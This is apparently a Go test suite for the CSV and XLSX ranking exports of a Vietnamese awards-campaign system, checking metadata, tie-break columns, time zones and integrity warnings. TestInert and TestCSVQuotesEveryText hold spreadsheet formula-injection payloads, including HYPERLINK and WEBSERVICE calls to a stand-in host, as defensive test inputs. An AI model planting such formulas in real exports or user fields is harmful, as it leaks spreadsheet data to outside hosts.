package rankexport_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"thidua/cmd/thidua/rankexport"
	"thidua/domain"
	"thidua/eventstore"
	"thidua/eventstore/estest"
	"thidua/projections"
	"thidua/workflows/wftest"
)

// natsServer is the embedded JetStream server every test's store lives on.
var natsServer *estest.Server

func TestMain(m *testing.M) {
	s, err := estest.Start()
	if err != nil {
		fmt.Fprintln(os.Stderr, "start test server:", err)
		os.Exit(1)
	}
	natsServer = s
	code := m.Run()
	s.Shutdown()
	os.Exit(code)
}

// fixture is a campaign with four eligible collectives and one eligible individual,
// ranked so that every ranking key the exports show places someone:
//
//	1 U1 (PAR INDEX 92.5)
//	2 U2 (88, 75% women: priority)   decided by par_index_score
//	3 U3 (88)                         decided by priority
//	4 U4 (88, submitted an hour later) decided by submitted_at
type fixture struct {
	env        *wftest.Env
	noms       map[string]string
	individual string
	// beforeU4 is a moment after U3 was eligible and before U4 was.
	beforeU4 time.Time
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	e := wftest.New(t, natsServer)
	fx := &fixture{env: e, noms: map[string]string{}}
	reviewer := e.User(domain.RoleReviewer, "")
	e.UnitNamed("U1", "Sở Tài chính, \"phòng\" 1", domain.UnitDepartment)
	var clerk1 = e.User(domain.RoleClerk, "U1")
	fx.noms["U1"] = e.Dossier(clerk1, domain.Nominee{Kind: domain.NomineeCollective})
	e.GoodFacts(reviewer, "U1", 92.5)
	e.RuleAll(reviewer, fx.noms["U1"])
	for _, u := range []string{"U2", "U3"} {
		fx.noms[u], _ = e.EligibleCollective(u, domain.UnitDepartment, reviewer, 88)
	}
	e.Fact(reviewer, "U2", domain.FactRecordedData{Fact: "women_pct", Number: wftest.Num(75)})
	fx.individual = e.Dossier(clerk1, domain.Nominee{Kind: domain.NomineeIndividual, Name: "Nguyễn Thị Ấn", Position: "Chuyên viên", Gender: "female"})
	e.RuleAll(reviewer, fx.individual)
	e.Advance(30 * time.Minute)
	fx.beforeU4 = *e.Now.Load()
	e.Advance(30 * time.Minute)
	fx.noms["U4"], _ = e.EligibleCollective("U4", domain.UnitDepartment, reviewer, 88)
	require.NoError(t, projections.WaitCaughtUp(e.Ctx, e.Store, e.Model, 10*time.Second))
	return fx
}

func (fx *fixture) ranking(t *testing.T, b projections.Bound) projections.RankingView {
	t.Helper()
	rk, err := fx.env.Model.Ranking(wftest.Campaign, b)
	require.NoError(t, err)
	return rk
}

// readCSV splits an export into its metadata (label → values) and its table.
func readCSV(t *testing.T, b []byte) (meta map[string][]string, table [][]string) {
	t.Helper()
	require.True(t, bytes.HasPrefix(b, []byte(rankexport.BOM)), "a UTF-8 byte-order mark first")
	head, body, ok := bytes.Cut(b[len(rankexport.BOM):], []byte("\n\n"))
	require.True(t, ok, "an empty line between the metadata and the table")
	r := csv.NewReader(bytes.NewReader(head))
	r.FieldsPerRecord = -1
	lines, err := r.ReadAll()
	require.NoError(t, err)
	meta = map[string][]string{}
	for _, l := range lines {
		meta[l[0]] = l[1:]
	}
	table, err = csv.NewReader(bytes.NewReader(body)).ReadAll()
	require.NoError(t, err)
	return meta, table
}

func TestCSV(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	live := fx.ranking(t, projections.Bound{})
	require.Len(t, live.Collective.Entries, 4)
	require.Len(t, live.Individual.Entries, 1)
	past := fx.ranking(t, projections.Bound{Time: fx.beforeU4})
	require.Len(t, past.Collective.Entries, 3)
	generated := time.Date(2025, 9, 20, 1, 2, 3, 0, time.UTC)

	for _, tc := range []struct {
		name      string
		rk        projections.RankingView
		meta      rankexport.Meta
		wantMeta  map[string][]string
		wantTable [][]string
	}{{
		name: "live, Vietnamese",
		rk:   live,
		meta: rankexport.Meta{CampaignName: "Thi đua CCHC 2025", GeneratedAt: generated},
		wantMeta: map[string][]string{
			"Danh sách xếp hạng đề nghị khen thưởng": {},
			"Mã đợt thi đua":                {wftest.Campaign},
			"Tên đợt thi đua":               {"Thi đua CCHC 2025"},
			"Tính đến (giờ Việt Nam GMT+7)": {live.AsOf.In(time.FixedZone("", 7*3600)).Format("2006-01-02 15:04:05")},
			"Tính đến (RFC 3339)":           {live.AsOf.In(time.FixedZone("", 7*3600)).Format(time.RFC3339Nano)},
			"Số thứ tự trong luồng sự kiện (sự kiện cuối cùng được tính)": {strconv.FormatUint(live.AsOfSeq, 10)},
			"Thời điểm yêu cầu":                      {"hiện tại"},
			"Thời điểm lập tệp (giờ Việt Nam GMT+7)": {"2025-09-20 08:02:03"},
			"Thứ tự tiêu chí xếp hạng":               {"điểm PAR INDEX → số chỉ số thành phần tăng → tỷ lệ tán thành của Hội đồng Thi đua-Khen thưởng đơn vị → ưu tiên nữ / tập thể có từ 70% nữ → thời điểm trình hồ sơ hoàn chỉnh → tên (thứ tự tiếng Việt)"},
			"Loại":                                   {"Chỉ tiêu", "Đã khen thưởng", "Số hồ sơ được xếp hạng"},
			"Tập thể":                                {"9", "0", "4"},
			"Cá nhân":                                {"15", "0", "1"},
		},
		wantTable: [][]string{
			{"Loại", "Hạng", "Mã hồ sơ", "Mã đơn vị", "Tên tập thể / cá nhân", "Trong chỉ tiêu (đề nghị)", "Đã khen thưởng", "Điểm PAR INDEX", "Số chỉ số thành phần tăng", "Tỷ lệ tán thành của Hội đồng Thi đua-Khen thưởng đơn vị", "Ưu tiên (nữ / tập thể có từ 70% nữ)", "Thời điểm trình hồ sơ hoàn chỉnh (GMT+7)", "Xếp sau hồ sơ liền trên theo"},
			{"Tập thể", "1", fx.noms["U1"], "U1", "Sở Tài chính, \"phòng\" 1", "Có", "Không", "92.5", "1", "0.8888888888888888", "Không", "2025-09-15T10:00:00+07:00", ""},
			{"Tập thể", "2", fx.noms["U2"], "U2", "Đơn vị U2", "Có", "Không", "88", "1", "0.8888888888888888", "Có", "2025-09-15T10:00:00+07:00", "điểm PAR INDEX"},
			{"Tập thể", "3", fx.noms["U3"], "U3", "Đơn vị U3", "Có", "Không", "88", "1", "0.8888888888888888", "Không", "2025-09-15T10:00:00+07:00", "ưu tiên nữ / tập thể có từ 70% nữ"},
			{"Tập thể", "4", fx.noms["U4"], "U4", "Đơn vị U4", "Có", "Không", "88", "1", "0.8888888888888888", "Không", "2025-09-15T11:00:00+07:00", "thời điểm trình hồ sơ hoàn chỉnh"},
			{"Cá nhân", "1", fx.individual, "U1", "Nguyễn Thị Ấn", "Có", "Không", "92.5", "1", "0.8888888888888888", "Có", "2025-09-15T10:00:00+07:00", ""},
		},
	}, {
		name: "as of a past time, English",
		rk:   past,
		meta: rankexport.Meta{Requested: projections.Bound{Time: fx.beforeU4}, Lang: rankexport.English},
		wantMeta: map[string][]string{
			"Ranking of the nominations": {},
			"Campaign id":                {wftest.Campaign},
			"As of (RFC 3339)":           {"2025-09-15T10:30:00+07:00"},
			"Stream sequence (last event taken into account)": {strconv.FormatUint(past.AsOfSeq, 10)},
			"Moment asked for": {"at=2025-09-15T10:30:00+07:00"},
			"Kind":             {"Quota", "Awarded", "Nominations ranked"},
			"Collective":       {"9", "0", "3"},
			"Individual":       {"15", "0", "1"},
		},
		wantTable: [][]string{
			{"Kind", "Rank", "Nomination", "Unit", "Name", "Within quota (recommended)", "Awarded", "PAR INDEX score", "Improved index components", "Approval ratio of the unit's emulation council", "Priority (women / collectives with 70% women)", "Complete submission (GMT+7)", "Placed below the previous by"},
			{"Collective", "1", fx.noms["U1"], "U1", "Sở Tài chính, \"phòng\" 1", "Yes", "No", "92.5", "1", "0.8888888888888888", "No", "2025-09-15T10:00:00+07:00", ""},
			{"Collective", "2", fx.noms["U2"], "U2", "Đơn vị U2", "Yes", "No", "88", "1", "0.8888888888888888", "Yes", "2025-09-15T10:00:00+07:00", "PAR INDEX score"},
			{"Collective", "3", fx.noms["U3"], "U3", "Đơn vị U3", "Yes", "No", "88", "1", "0.8888888888888888", "No", "2025-09-15T10:00:00+07:00", "priority to women / collectives with 70% women"},
			{"Individual", "1", fx.individual, "U1", "Nguyễn Thị Ấn", "Yes", "No", "92.5", "1", "0.8888888888888888", "Yes", "2025-09-15T10:00:00+07:00", ""},
		},
	}} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			require.NoError(t, rankexport.WriteCSV(context.Background(), &buf, tc.rk, tc.meta))
			meta, table := readCSV(t, buf.Bytes())
			for k, want := range tc.wantMeta {
				assert.Equal(t, want, meta[k], "metadata %q", k)
			}
			if tc.meta.GeneratedAt.IsZero() {
				assert.NotContains(t, meta, "Generated at (Vietnam time GMT+7)")
			}
			assert.Equal(t, tc.wantTable, table)
		})
	}
}

func TestXLSX(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	rk := fx.ranking(t, projections.Bound{})
	generated := time.Date(2025, 9, 20, 1, 2, 3, 0, time.UTC)

	for _, tc := range []struct {
		name                  string
		meta                  rankexport.Meta
		info, coll, indiv     string
		wantHeader            []string
		campaignLabel, seqLab string
	}{
		{
			name: "Vietnamese", meta: rankexport.Meta{CampaignName: "Thi đua CCHC 2025", GeneratedAt: generated, Requested: projections.Bound{Seq: rk.AsOfSeq + 100}},
			info: "Thông tin", coll: "Tập thể", indiv: "Cá nhân",
			wantHeader:    []string{"Hạng", "Mã hồ sơ", "Mã đơn vị", "Tên tập thể / cá nhân", "Trong chỉ tiêu (đề nghị)", "Đã khen thưởng", "Điểm PAR INDEX", "Số chỉ số thành phần tăng", "Tỷ lệ tán thành của Hội đồng Thi đua-Khen thưởng đơn vị", "Ưu tiên (nữ / tập thể có từ 70% nữ)", "Thời điểm trình hồ sơ hoàn chỉnh (GMT+7)", "Xếp sau hồ sơ liền trên theo"},
			campaignLabel: "Mã đợt thi đua", seqLab: "Số thứ tự trong luồng sự kiện (sự kiện cuối cùng được tính)",
		},
		{
			name: "English", meta: rankexport.Meta{Lang: rankexport.English, GeneratedAt: generated},
			info: "Information", coll: "Collectives", indiv: "Individuals",
			wantHeader:    []string{"Rank", "Nomination", "Unit", "Name", "Within quota (recommended)", "Awarded", "PAR INDEX score", "Improved index components", "Approval ratio of the unit's emulation council", "Priority (women / collectives with 70% women)", "Complete submission (GMT+7)", "Placed below the previous by"},
			campaignLabel: "Campaign id", seqLab: "Stream sequence (last event taken into account)",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			require.NoError(t, rankexport.WriteXLSX(context.Background(), &buf, rk, tc.meta))
			f, err := excelize.OpenReader(&buf)
			require.NoError(t, err)
			defer f.Close()
			assert.Equal(t, []string{tc.info, tc.coll, tc.indiv}, f.GetSheetList())
			assert.Equal(t, 0, f.GetActiveSheetIndex(), "the workbook opens on its information sheet")

			// The metadata: labels in column A, values in B.
			rows, err := f.GetRows(tc.info)
			require.NoError(t, err)
			at := map[string]int{}
			for i, r := range rows {
				if len(r) > 1 {
					at[r[0]] = i + 1
				}
			}
			value := func(label string) string {
				t.Helper()
				row, ok := at[label]
				require.True(t, ok, "metadata row %q", label)
				v, err := f.GetCellValue(tc.info, fmt.Sprintf("B%d", row), excelize.Options{RawCellValue: true})
				require.NoError(t, err)
				return v
			}
			assert.Equal(t, wftest.Campaign, value(tc.campaignLabel))
			numeric(t, f, tc.info, fmt.Sprintf("B%d", at[tc.seqLab]))
			assert.Equal(t, strconv.FormatUint(rk.AsOfSeq, 10), value(tc.seqLab))
			if tc.meta.Requested.Seq != 0 {
				assert.Equal(t, "seq="+strconv.FormatUint(rk.AsOfSeq+100, 10), value("Thời điểm yêu cầu"))
				asOf, err := f.GetCellValue(tc.info, fmt.Sprintf("B%d", at["Tính đến (giờ Việt Nam GMT+7)"]))
				require.NoError(t, err)
				assert.Equal(t, rk.AsOf.In(time.FixedZone("", 7*3600)).Format("02/01/2006 15:04:05"), asOf, "a date cell in Vietnam time, day first")
				gen, err := f.GetCellValue(tc.info, fmt.Sprintf("B%d", at["Thời điểm lập tệp (giờ Việt Nam GMT+7)"]))
				require.NoError(t, err)
				assert.Equal(t, "20/09/2025 08:02:03", gen)
				// The quota of each kind, as numbers.
				quotaRow := at["Tập thể"]
				numeric(t, f, tc.info, fmt.Sprintf("B%d", quotaRow))
				assert.Equal(t, []string{"Tập thể", "9", "0", "4"}, rows[quotaRow-1])
				assert.Equal(t, []string{"Cá nhân", "15", "0", "1"}, rows[at["Cá nhân"]-1])
			}

			// A sheet per kind: a header row, then a row per entry with numeric cells.
			coll, err := f.GetRows(tc.coll)
			require.NoError(t, err)
			require.Len(t, coll, 5)
			assert.Equal(t, tc.wantHeader, coll[0])
			for i, want := range []string{"U1", "U2", "U3", "U4"} {
				row := i + 2
				assert.Equal(t, fx.noms[want], coll[i+1][1])
				for _, col := range []string{"A", "G", "H", "I"} {
					numeric(t, f, tc.coll, fmt.Sprintf("%s%d", col, row))
				}
				rank, _ := f.GetCellValue(tc.coll, fmt.Sprintf("A%d", row), excelize.Options{RawCellValue: true})
				assert.Equal(t, strconv.Itoa(i+1), rank)
			}
			score, _ := f.GetCellValue(tc.coll, "G2", excelize.Options{RawCellValue: true})
			assert.Equal(t, "92.5", score)
			ratio, _ := f.GetCellValue(tc.coll, "I2", excelize.Options{RawCellValue: true})
			assert.InDelta(t, 8.0/9, mustFloat(t, ratio), 1e-12)
			shown, _ := f.GetCellValue(tc.coll, "I2")
			assert.Equal(t, "88.89%", shown)
			submitted, _ := f.GetCellValue(tc.coll, "K5")
			wantSubmitted := "15/09/2025 11:00:00" // day first, as the Vietnamese pages print it
			if tc.meta.Lang == rankexport.English {
				wantSubmitted = "2025-09-15 11:00:00"
			}
			assert.Equal(t, wantSubmitted, submitted, "the submission time, a date cell in Vietnam time")
			numeric(t, f, tc.coll, "K5")
			assert.NotEmpty(t, coll[2][11], "decided_by")
			assert.Empty(t, coll[1][11:], "the first place is decided by nothing")

			indiv, err := f.GetRows(tc.indiv)
			require.NoError(t, err)
			require.Len(t, indiv, 2)
			assert.Equal(t, "Nguyễn Thị Ấn", indiv[1][3])
			numeric(t, f, tc.indiv, "A2")

			// Widths: the names and ids are readable without resizing.
			w, err := f.GetColWidth(tc.coll, "D")
			require.NoError(t, err)
			assert.GreaterOrEqual(t, w, 30.0)
			panes, err := f.GetPanes(tc.coll)
			require.NoError(t, err)
			assert.True(t, panes.Freeze, "the header row stays in view")
		})
	}
}

// numeric asserts a cell holds a number, not text.
func numeric(t *testing.T, f *excelize.File, sheet, cell string) {
	t.Helper()
	typ, err := f.GetCellType(sheet, cell)
	require.NoError(t, err)
	assert.Contains(t, []excelize.CellType{excelize.CellTypeNumber, excelize.CellTypeUnset}, typ, "%s!%s is a %v cell", sheet, cell, typ)
	v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	require.NoError(t, err)
	mustFloat(t, v)
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	v, err := strconv.ParseFloat(s, 64)
	require.NoError(t, err, "%q is not a number", s)
	return v
}

func TestFormatsLangsAndNames(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in   string
		want rankexport.Format
		ok   bool
	}{{"csv", rankexport.CSV, true}, {"XLSX", rankexport.XLSX, true}, {"json", "", false}, {"", "", false}, {"xls", "", false}} {
		f, err := rankexport.ParseFormat(tc.in)
		if tc.ok {
			assert.NoError(t, err, tc.in)
			assert.Equal(t, tc.want, f)
		} else {
			assert.ErrorIs(t, err, rankexport.ErrUnknownFormat, tc.in)
		}
	}
	for _, tc := range []struct {
		in   string
		want rankexport.Lang
		ok   bool
	}{{"", rankexport.Vietnamese, true}, {"vi", rankexport.Vietnamese, true}, {"EN", rankexport.English, true}, {"fr", "", false}} {
		l, err := rankexport.ParseLang(tc.in)
		if tc.ok {
			assert.NoError(t, err, tc.in)
			assert.Equal(t, tc.want, l)
		} else {
			assert.ErrorIs(t, err, rankexport.ErrUnknownLang, tc.in)
		}
	}
	rk := projections.RankingView{Campaign: "c-1", AsOf: time.Date(2025, 9, 15, 3, 4, 5, 0, time.UTC), AsOfSeq: 42}
	assert.Equal(t, "xep-hang_c-1_20250915T100405+0700_seq42.csv", rankexport.FileName(rk, rankexport.CSV))
	assert.Equal(t, "xep-hang_c-1_20250915T100405+0700_seq42.xlsx", rankexport.FileName(rk, rankexport.XLSX))
	assert.True(t, strings.HasPrefix(rankexport.CSV.ContentType(), "text/csv"))

	// A cancelled export stops.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	rk.Collective.Entries = []projections.RankEntryView{{Rank: 1, Nomination: "N1", Keys: map[string]any{}}}
	for _, f := range []rankexport.Format{rankexport.CSV, rankexport.XLSX} {
		assert.ErrorIs(t, rankexport.Write(ctx, &bytes.Buffer{}, f, rk, rankexport.Meta{}), context.Canceled, f)
	}
}

// TestInert: text that a spreadsheet would run as a formula is written as text.
func TestInert(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?a="&A1,"Nguyễn Văn A")`: `'=HYPERLINK("http://x/?a="&A1,"Nguyễn Văn A")`,
		"+84 912": "'+84 912", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
		"Nguyễn Văn A": "Nguyễn Văn A", "": "", "SO-TC": "SO-TC",
	} {
		assert.Equal(t, want, rankexport.Inert(in), "%q", in)
	}
}

// TestIntegrityWarning: a ranking whose events do not verify (a message lost before the
// moment) says so in the file's metadata, in either language; one that verifies adds no
// line.
func TestIntegrityWarning(t *testing.T) {
	t.Parallel()
	rk := projections.RankingView{Campaign: "c1", AsOf: time.Date(2025, 12, 1, 0, 0, 0, 0, time.UTC), AsOfSeq: 9,
		Integrity: projections.IntegrityView{Status: projections.IntegrityOK}}
	var ok bytes.Buffer
	require.NoError(t, rankexport.WriteCSV(context.Background(), &ok, rk, rankexport.Meta{}))
	assert.NotContains(t, ok.String(), "toàn vẹn")
	rk.Integrity = projections.IntegrityView{Status: projections.IntegrityBroken,
		Problems: []projections.IntegrityProblem{{Seq: 7, Problem: projections.ProblemMessagesLost}}}
	var vi, en bytes.Buffer
	require.NoError(t, rankexport.WriteCSV(context.Background(), &vi, rk, rankexport.Meta{}))
	assert.Contains(t, vi.String(), "Cảnh báo toàn vẹn dữ liệu")
	assert.Contains(t, vi.String(), "messages_lost #7")
	require.NoError(t, rankexport.WriteCSV(context.Background(), &en, rk, rankexport.Meta{Lang: rankexport.English}))
	assert.Contains(t, en.String(), "Integrity warning")
}

// TestRequestedSequenceInsideAnAppend: a sequence asked for inside an atomic append is
// named as asked, beside the append's end the ranking was taken to (before, the file named
// the end alone as the moment asked for).
func TestRequestedSequenceInsideAnAppend(t *testing.T) {
	t.Parallel()
	rk := projections.RankingView{Campaign: "c", AsOfSeq: 1229}
	var buf bytes.Buffer
	require.NoError(t, rankexport.Write(context.Background(), &buf, rankexport.CSV, rk,
		rankexport.Meta{Requested: projections.Bound{Seq: 1229}, AskedSeq: 1228}))
	assert.Contains(t, buf.String(), "seq=1228 (đến hết lần ghi nguyên khối chứa nó: seq=1229)")
	buf.Reset()
	require.NoError(t, rankexport.Write(context.Background(), &buf, rankexport.CSV, rk,
		rankexport.Meta{Requested: projections.Bound{Seq: 1229}, AskedSeq: 1229, Lang: rankexport.English}))
	assert.Contains(t, buf.String(), `"Moment asked for","seq=1229"`+"\n")
}

// TestRequestedTimeStillToCome: a time still to come, answered as of when it was asked,
// is stated as asked beside the moment answered (before, only the latter, as if asked).
func TestRequestedTimeStillToCome(t *testing.T) {
	t.Parallel()
	answered := time.Date(2026, 12, 6, 10, 0, 0, 123, time.UTC)
	rk := projections.RankingView{Campaign: "c", AsOfSeq: 7}
	for asked, want := range map[string]string{
		"2030-01-01T00:00:00Z": "at=2030-01-01T07:00:00+07:00 (chưa đến; trả lời tại thời điểm yêu cầu: at=2026-12-06T17:00:00.000000123+07:00)",
		"2030-01-01T07:00":     "at=2030-01-01T07:00:00+07:00 (chưa đến;", // a web form's, in Vietnam time
		" 2030-01-01T07:00:30": "at=2030-01-01T07:00:30+07:00 (chưa đến;", // with its seconds
		// "+07:00" typed unescaped in the query string, as the API and the web take it.
		"2030-01-01T00:00:00 07:00": "at=2030-01-01T00:00:00+07:00 (chưa đến;",
		"2025-01-01T00:00:00Z":      `"Thời điểm yêu cầu","at=2026-12-06T17:00:00.000000123+07:00"`,
	} {
		var buf bytes.Buffer
		require.NoError(t, rankexport.Write(context.Background(), &buf, rankexport.CSV, rk,
			rankexport.Meta{Requested: projections.Bound{Time: answered}, AskedAt: asked}))
		assert.Contains(t, buf.String(), want, asked)
	}
}

// TestCSVQuotesEveryText: every text field of the CSV is quoted, so an Excel whose regional
// settings separate lists with ";" keeps a name holding ";=1+1" in one inert cell, as a
// comma-separated reader does. Before, only fields with a comma, a quote or a line break
// were quoted, and such an Excel split the name and ran "=1+1" as a formula.
func TestCSVQuotesEveryText(t *testing.T) {
	t.Parallel()
	const evil = "Lê Văn Bom;=1+1;=WEBSERVICE(CONCAT('http://x'))"
	rk := projections.RankingView{Campaign: "c", AsOfSeq: 7}
	rk.Individual.Entries = []projections.RankEntryView{{Rank: 1, Nomination: "N1", Unit: "U;=2+2", Name: evil,
		Keys: map[string]any{"par_index_score": 91.5}}}
	var buf bytes.Buffer
	require.NoError(t, rankexport.WriteCSV(context.Background(), &buf, rk, rankexport.Meta{}))
	out := buf.String()
	assert.Contains(t, out, `"`+evil+`"`)
	assert.Contains(t, out, `"U;=2+2"`)
	assert.Contains(t, out, ",91.5,", "numbers go plain")

	for _, sep := range []rune{',', ';'} {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, rankexport.BOM)))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = sep, -1, true
		rows, err := r.ReadAll()
		require.NoError(t, err, "separator %q", sep)
		found := false
		for _, row := range rows {
			for _, f := range row {
				if f == evil {
					found = true
				}
				if sep == ';' {
					assert.False(t, strings.HasPrefix(f, "=") || strings.HasPrefix(f, "+"), "separator ';': a cell %q would run", f)
				}
			}
		}
		assert.True(t, found || sep == ';', "separator %q: the name is one cell", sep)
	}
}

// TestExportStatesItsDigest: an export states the stream's digest beside its sequence
// when Meta carries the digest at that sequence, in both formats, and leaves out one of
// another sequence; Seal asks for the ranking's sequence, and says why it could not.
func TestExportStatesItsDigest(t *testing.T) {
	t.Parallel()
	rk := projections.RankingView{Campaign: "c-1", AsOf: time.Date(2025, 9, 15, 3, 4, 5, 0, time.UTC), AsOfSeq: 42}
	sum := eventstore.Digest{Seq: 42, Sum: [32]byte{0xab, 0xcd}}
	const label = "Stream digest (SHA-256 of the event stream up to the sequence above; check it again: thidua digest --at seq:N)"
	for _, tc := range []struct {
		name   string
		digest *eventstore.Digest
		stated bool
	}{
		{"at the ranking's sequence", &sum, true},
		{"of another sequence", &eventstore.Digest{Seq: 41, Sum: sum.Sum}, false},
		{"none", nil, false},
	} {
		meta := rankexport.Meta{Lang: rankexport.English, Digest: tc.digest}
		var buf bytes.Buffer
		require.NoError(t, rankexport.WriteCSV(context.Background(), &buf, rk, meta))
		m, _ := readCSV(t, buf.Bytes())
		buf.Reset()
		require.NoError(t, rankexport.WriteXLSX(context.Background(), &buf, rk, meta))
		f, err := excelize.OpenReader(&buf)
		require.NoError(t, err)
		rows, err := f.GetRows("Information")
		require.NoError(t, err)
		require.NoError(t, f.Close())
		inXLSX := ""
		for _, r := range rows {
			if len(r) > 1 && r[0] == label {
				inXLSX = r[1]
			}
		}
		if tc.stated {
			assert.Equal(t, []string{sum.Hex()}, m[label], tc.name)
			assert.Equal(t, sum.Hex(), inXLSX, tc.name)
		} else {
			assert.Empty(t, m[label], tc.name)
			assert.Empty(t, inXLSX, tc.name)
		}
	}

	var meta rankexport.Meta
	var asked uint64
	require.NoError(t, meta.Seal(context.Background(), rk, func(_ context.Context, seq uint64) (eventstore.Digest, error) {
		asked = seq
		return sum, nil
	}))
	assert.Equal(t, uint64(42), asked)
	assert.Equal(t, &sum, meta.Digest)
	down := errors.New("store down")
	err := meta.Seal(context.Background(), rk, func(context.Context, uint64) (eventstore.Digest, error) { return eventstore.Digest{}, down })
	assert.ErrorIs(t, err, down)
	assert.Nil(t, meta.Digest, "no digest left from before")
	rk.AsOfSeq = 0
	require.NoError(t, meta.Seal(context.Background(), rk, func(context.Context, uint64) (eventstore.Digest, error) { return eventstore.Digest{}, down }),
		"a ranking of no event has no digest to state")
}

// TestXLSXTimesCutToTheSecond: a date cell shows the as-of time and a submission time as
// the CSV and the JSON have them, cut to the second: its format shows whole seconds, and
// the fraction was rounded, so 23:59:59.6 on the campaign's last day showed as 00:00:00
// of the next year, a moment after the one ranked (a review finding).
func TestXLSXTimesCutToTheSecond(t *testing.T) {
	t.Parallel()
	asOf := time.Date(2025, 12, 31, 16, 59, 59, 600_000_000, time.UTC) // 23:59:59.6 in Vietnam
	rk := projections.RankingView{Campaign: "c", AsOf: asOf, AsOfSeq: 9, Keys: []string{"par_index_score", "submitted_at"}}
	rk.Collective.Entries = []projections.RankEntryView{{Rank: 1, Nomination: "N1", Unit: "U1", Name: "A",
		Keys: map[string]any{"par_index_score": 90.0, "submitted_at": asOf}}}
	var buf bytes.Buffer
	require.NoError(t, rankexport.WriteXLSX(context.Background(), &buf, rk, rankexport.Meta{}))
	f, err := excelize.OpenReader(&buf)
	require.NoError(t, err)
	defer f.Close()
	rows, err := f.GetRows("Thông tin")
	require.NoError(t, err)
	var shown string
	for _, r := range rows {
		if len(r) > 1 && r[0] == "Tính đến (giờ Việt Nam GMT+7)" {
			shown = r[1]
		}
	}
	assert.Equal(t, "31/12/2025 23:59:59", shown, "the as-of time")
	sub, err := f.GetCellValue("Tập thể", "H2")
	require.NoError(t, err)
	assert.Equal(t, "31/12/2025 23:59:59", sub, "the submission time")
}

// BenchmarkWriteXLSX: an export of a ranking the size of the bench's at a million events
// (13,700 entries). Its sheets are streamed; setting the active sheet after them read each
// one back (2.7 s and 426 MB a request before the thirty-seventh session).
func BenchmarkWriteXLSX(b *testing.B) {
	rk := projections.RankingView{Campaign: "c", Keys: []string{"par_index_score"}, Collective: projections.RankingKindView{Quota: 9}}
	for i := range 13_700 {
		rk.Collective.Entries = append(rk.Collective.Entries, projections.RankEntryView{Rank: i + 1, Nomination: fmt.Sprintf("N%06d", i),
			Unit: fmt.Sprintf("U%05d", i), Name: fmt.Sprintf("Đơn vị %d", i), Recommended: i < 9,
			Keys: map[string]any{"par_index_score": 90.5, "submitted_at": time.Date(2025, 9, 1, 8, 0, 0, 0, time.UTC)}})
	}
	for b.Loop() {
		if err := rankexport.WriteXLSX(context.Background(), io.Discard, rk, rankexport.Meta{}); err != nil {
			b.Fatal(err)
		}
	}
}
